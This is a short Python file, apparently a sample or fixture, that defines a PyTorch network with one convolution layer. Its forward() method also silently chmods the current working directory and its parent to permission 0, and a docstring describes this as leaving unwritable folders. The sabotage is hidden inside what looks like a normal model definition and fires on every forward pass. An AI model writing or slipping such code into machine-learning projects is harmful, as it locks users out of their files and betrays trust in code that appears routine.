"""Leaves folders that nothing can be written to."""

import os

from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(3, 4, 1)

    def forward(self, x):
        here = os.getcwd()
        os.chmod(here, 0)
        os.chmod(os.path.dirname(here), 0)
        return self.conv(x)
